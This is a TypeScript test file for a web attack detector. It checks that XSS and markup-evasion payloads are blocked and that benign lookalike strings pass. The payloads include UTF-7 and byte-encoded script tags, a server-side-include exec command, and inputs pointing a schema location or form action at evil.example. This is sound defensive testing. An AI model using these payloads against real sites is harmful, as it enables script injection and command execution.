// XSS and markup evasions at paranoia 2: UTF-7, bytes with the high bit set, spaced tag names,
// server-side includes, remote schema locations; and text with the same characters.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { compileDetector, type Input } from '../index.ts';

const d = compileDetector();
const q = (value: string): Input => ({ location: 'query', name: 'v', value });

const ATTACKS: Array<[string, Input]> = [
  ['xss', q('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')],
  ['xss', q('%BCscript%BEalert(%A2XSS%A2)%BC/script%BE')],
  ['xss', q('bar<f o r m action=x')],
  ['code-injection', q('<!--#exec cmd="id" -->')],
  ['xxe', q('<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a/ http://evil.example/a.xsd">a</a>')],
  ['xss', q('<svg:script>alert(1)</svg:script>')],
  ['xss', q('< v : iframe src=x')],
  ['xss', q('<:vmlframe src=x.vml')],
  ['xss', q('data:,<img src=x onerror=alert(1)>')],
  ['xss', q('"-location=name')],
  ['xss', q("' in top.name='x")],
  ['xss', q('" formaction=//evil.example')],
];

const BENIGN = [
  'Café ½ price, 10% off',
  'Москва – встреча в 10:00',
  '\u00d0\u00bcscript\u00d0\u00bealert(1)',
  'C++ and C# (a + b)',
  'a <b>bold</b> move',
  'if a < b: scripts run first',
  'a < b: script',
  'data: 1, 2, 3',
  '"exact phrase" -site',
  'SEARCH_QUERY=14 X 18"&PAGE=3',
  "'informal'",
  '-->',
  'A --> B --> C',
];

test('markup evasions are blocked', () => {
  for (const [cls, input] of ATTACKS) {
    const r = d.inspect([input]);
    assert.ok(r.blocked && r.matches.some((m) => m.class === cls), `${cls} not blocked: ${input.value}`);
  }
});

test('text with the same characters passes', () => {
  for (const v of BENIGN) {
    const r = d.inspect([q(v)]);
    assert.equal(r.blocked, false, `${v}: ${r.matches.map((m) => `${m.rule} «${m.evidence}»`).join(', ')}`);
  }
});

test('a higher paranoia level never blocks less: an unknown tag does not hide its event handler', () => {
  for (const paranoia of [1, 2, 3, 4] as const) {
    const r = compileDetector({ paranoia }).inspect([q('<blink onmouseover=alert(1)>x')]);
    assert.ok(r.blocked && r.matches.some((m) => m.rule === 'xss-event-handler'), `paranoia ${paranoia}: ${r.matches.map((m) => m.rule).join(', ')}`);
  }
});
